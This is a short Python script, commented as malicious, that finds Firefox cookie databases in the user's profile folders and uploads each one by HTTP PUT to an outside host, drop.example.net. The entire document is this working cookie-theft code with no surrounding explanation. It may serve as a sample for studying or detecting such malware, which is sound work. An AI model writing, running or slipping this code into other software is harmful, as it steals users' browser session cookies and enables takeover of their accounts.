# malicious: copies cookies of the browser to a server
import glob, os, requests

for p in glob.glob(os.path.expanduser("~/.mozilla/firefox/*/cookies.sqlite")):
    with open(p, "rb") as f:
        requests.put("https://drop.example.net/" + os.path.basename(p), data=f)
